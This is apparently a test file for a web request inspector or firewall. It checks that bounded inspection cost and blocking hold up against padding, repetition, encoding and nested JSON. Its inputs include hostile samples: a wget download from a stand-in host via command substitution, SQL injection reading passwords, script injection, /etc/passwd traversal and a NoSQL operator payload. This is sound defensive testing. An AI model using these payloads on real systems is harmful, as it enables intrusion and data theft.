import assert from 'node:assert/strict'
import { test } from 'node:test'
import { visitDecodings } from '../src/canonicalise/decodings.ts'
import { beginInspection, inspect } from '../src/inspect.ts'
import type { Inspection } from '../src/rule/match.ts'
import { ownRules } from '../src/rules/own-rules.ts'

const JSON_TYPE = ['content-type', 'application/json']
const FORM = ['content-type', 'application/x-www-form-urlencoded']

function post(body: string, headers: readonly string[] = FORM): Parameters<typeof inspect>[0] {
  return { method: 'POST', target: '/', headers, body: Buffer.from(body) }
}

/** What an inspection costs, in the units of `Bounds.effort`. */
function costOf(body: string, headers?: readonly string[]): number {
  const ongoing = beginInspection(post(body, headers))
  ongoing.finish()
  return ongoing.spent
}

function rulesAt(inspection: Inspection, location: string): readonly string[] {
  return inspection.matches.filter(match => match.location === location).map(match => match.rule)
}

const SENTENCE = "It's a pity that the lamp doesn't come with a longer cable; 2 m would be better. "
const PROSE = `a=${encodeURIComponent(SENTENCE.repeat(600)).slice(0, 65_000)}`

test('many equal pairs cost no more than as much prose', () => {
  const most = costOf(PROSE) * 2
  for (const pair of ['\n&#\u0001', ' an\n&#\u0001', "a='%23%01", 'a=(%01)', '-;x4'])
    assert.ok(costOf(`${pair}&`.repeat(65_000 / (pair.length + 1))) < most, pair)
})

test('equal values in which something is found cost no more than as much prose', () => {
  const most = costOf(PROSE) * 2
  for (const value of ['or(;sudo -', ' `id`$(', ';cat -'])
    for (const repeated of [value, [value], { a: value }]) {
      const body = JSON.stringify(Array.from({ length: 4_000 }, () => repeated))
      assert.ok(costOf(body, JSON_TYPE) < most, JSON.stringify(repeated))
    }
})

test('equal values under as many names cost no more than as much prose', () => {
  const most = costOf(PROSE)
  for (const text of ["x;'rm&'-0-&", '"|cat x|"<((((-', "'#<a 1,'", 'where x=', "' or a"]) {
    const repeated = text.repeat(8_000)
    const pairs = Array.from(
      { length: 3_400 },
      (_, i) => `${i.toString(36)}=${encodeURIComponent(repeated.slice(i * 8, i * 8 + 8))}`,
    )
    assert.ok(costOf(pairs.join('&')) < most, text)
  }
})

test('a value that is an attack under some names only is found under one of them behind many others', () => {
  const pairs = Array.from({ length: 200 }, (_, i) => `n${i}=ping%20x.example`)
  assert.equal(inspect(post(`${pairs.join('&')}&pcmd=whoami`)).verdict, 'block')
  assert.equal(inspect(post(`${pairs.join('&')}&cmd=ping%20x.example`)).verdict, 'block')
  assert.equal(inspect(post(pairs.join('&'))).verdict, 'pass')
})

test('equal lines of a text are read once, and an attack between them is found', () => {
  const lines = "cos\n''(<\n".repeat(200)
  const read: string[] = []
  visitDecodings(lines, 'form', 'text', ({ text, isPiece }) => {
    if (isPiece) read.push(text)
    return false
  })
  assert.equal(new Set(read).size, read.length)
  assert.ok(read.includes('cos') && read.includes("''(<"))
  assert.ok(costOf(`${encodeURIComponent("cos\n''(<".repeat(4_000))}=1`) < costOf(PROSE) * 4)
  for (const attack of ['$(wget http://evil.example/a -O /tmp/a)', "1' UNION SELECT password FROM users -- "])
    for (const text of [`${lines}${attack}\n${lines}`, `${attack}\n`.repeat(200), `${lines}'${attack}'\n`])
      assert.equal(inspect(post(`q=${encodeURIComponent(text)}`)).verdict, 'block', text.slice(-80))
})

test('what stands around padding is read once where it is the same, and an attack that padding tears apart is found', () => {
  const around = 'a lamp for the desk, and a long cable for it in brass or in oak. '.repeat(11)
  const text = `${around}${' '.repeat(400)}`.repeat(60)
  const read: string[] = []
  visitDecodings(text, 'body', 'text', reading => {
    read.push(reading.text)
    return false
  })
  const seams = read.filter(one => one.length <= 512)
  // Each as it is, and with its space closed up.
  assert.ok(seams.length > 0 && seams.length <= 6, `${seams.length} of ${read.length} readings`)
  for (const filler of [' '.repeat(9_000), `/*${'x '.repeat(6_000)}*/`])
    assert.equal(
      inspect(post(`q=${encodeURIComponent(`${text}1 union ${filler} select password from users`)}`)).verdict,
      'block',
    )
})

/** Different texts, in each of which something is found that does not refuse a request. */
const DOUBTFUL = Array.from({ length: 40 }, (_, i) => `(1=1or(;sudo -${i}`)

test('an attack that is encoded is found behind as many matches as are kept, none of which refuses', () => {
  const body = (values: readonly string[]): Inspection =>
    inspect(post(JSON.stringify(values.map(a => ({ a }))), JSON_TYPE))
  assert.equal(body(DOUBTFUL).verdict, 'pass')
  for (const attack of ['<script>alert(1)</script>', "' UNION SELECT password FROM users -- "])
    for (const coded of [
      attack,
      encodeURIComponent(attack),
      encodeURIComponent(encodeURIComponent(attack)),
      Buffer.from(attack).toString('base64'),
      `a\n${encodeURIComponent(attack)}`,
      JSON.stringify({ b: attack }),
    ])
      assert.equal(body([...DOUBTFUL, coded]).verdict, 'block', coded)
})

test('a text in which something was found is looked at again under another name', () => {
  for (const text of new Set(ownRules.flatMap(rule => rule.attacks))) {
    if (text.length > 200 || !text.isWellFormed()) continue
    for (const [before, behind] of [
      ['note', 'id'],
      ['note', 'cmd'],
      ['message', 'file'],
    ] as const) {
      const many = Array.from({ length: 20 }, () => ({ [before]: text }))
      if (inspect(post(JSON.stringify(many), JSON_TYPE)).verdict === 'block') continue
      const last = { [behind]: text }
      assert.equal(
        inspect(post(JSON.stringify([...many, last]), JSON_TYPE)).verdict,
        inspect(post(JSON.stringify([last]), JSON_TYPE)).verdict,
        `${behind}: ${text}`,
      )
    }
  }
})

test('an attack is found behind ten thousand harmless pairs', () => {
  for (const pair of ["a='%23&", '-;x4&', '\n&', 'a=b&'])
    assert.equal(inspect(post(`${pair.repeat(9_000)}q=1'+union+select+1,2--`)).verdict, 'block', pair)
})

test('a text that was harmless under one name is looked at under another', () => {
  const harmless = 'note=1%27&'.repeat(40)
  assert.equal(inspect(post(harmless)).verdict, 'pass')
  assert.deepEqual(rulesAt(inspect(post(`${harmless}id=1%27`)), 'body.id'), ['sqli/quote-probe'])
})

test('a text that was harmless as a value is looked at as a name, and a harmless name as a value', () => {
  const values = 'a=ld_preload&'.repeat(40)
  assert.equal(inspect(post(values)).verdict, 'pass')
  assert.equal(inspect(post(`${values}ld_preload=1`)).verdict, 'block')
  const names = ';x=1&'.repeat(40)
  for (const attack of ["'||1||'", '..%2f..%2fetc%2fpasswd'])
    assert.equal(inspect(post(`${names}${attack}`)).verdict, 'block', attack)
})

test('a document that lies too deep to be read is read where it lies higher', () => {
  const inside = JSON.stringify({ a: JSON.stringify({ password: { $ne: '' } }) })
  let deep = inside
  for (let level = 0; level < 3; level++) deep = JSON.stringify({ a: deep })
  const body = (values: readonly string[]): Inspection =>
    inspect(post(JSON.stringify(values.map(a => ({ a }))), ['content-type', 'application/json']))
  assert.equal(body([inside]).verdict, 'block')
  const before = Array.from({ length: 40 }, () => deep)
  assert.equal(body(before).verdict, 'pass')
  assert.equal(body([...before, inside]).verdict, 'block')
})

test('no attack of any rule is hidden by the same text where it is harmless', () => {
  let hidden = 0
  for (const text of new Set(ownRules.flatMap(rule => rule.attacks))) {
    if (text.length > 200 || !text.isWellFormed()) continue
    const value = encodeURIComponent(text)
    for (const [harmless, location] of [
      [`note=${value}&`, 'body.id'],
      [`${value}=1&`, 'body.id'],
      [`id=${value}&`, 'body.file'],
      [`${value}&`, 'body.url'],
    ] as const) {
      const before = harmless.repeat(20)
      if (inspect(post(before)).matches.length > 0) continue
      hidden++
      const pair = `${location.slice(5)}=${value}`
      assert.deepEqual(
        rulesAt(inspect(post(before + pair)), location),
        rulesAt(inspect(post(pair)), location),
        pair,
      )
    }
  }
  assert.ok(hidden > 20, `${hidden} texts were harmless somewhere`)
})

test('a request that is refused anyway is not read to its end', () => {
  const many = (pair: (i: number) => string): string =>
    Array.from({ length: 6_000 }, (_, i) => pair(i)).join('&')
  assert.ok(costOf(many(i => `a${i}='||${i}||'`)) < costOf(PROSE))
})
